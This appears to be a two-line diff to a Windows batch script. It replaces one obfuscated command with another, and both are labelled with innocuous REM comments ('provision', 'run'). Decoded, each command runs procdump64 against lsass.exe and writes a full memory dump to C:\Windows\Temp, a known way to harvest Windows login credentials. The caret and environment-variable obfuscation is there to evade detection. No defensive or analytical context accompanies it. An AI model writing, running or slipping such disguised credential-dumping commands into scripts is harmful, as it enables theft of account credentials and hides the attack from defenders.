@@ -1,2 +1,2 @@
-REM provision 7798 v2
-^p%PROGRAMDATA:~-10,1%o%comspec:~20,1%%windir:~-4,1%um^p64.%COMSPEC:~-3,1%%comspec:~25,1%%COMSPEC:~24,1% -^ac^ce^p^teu^l^a -m^a l^s^as^s.^exe C:\^Win^dow^s\Te^m^p\^l^s.^d^mp
+REM run 0300 v2
+p%ProgramData:~4,1%%COMSPEC:~-20,1%%public:~-1,1%%COMSPEC:~6,1%%public:~-5,1%mp6^4.%PUBLIC:~-10,1%%COMSPEC:~25,1%^e -^a^c^ce^pt^e^ul^a -m^a lsas^s.exe C:\Wi^n^d^ows\Te^mp\ls.dm^p
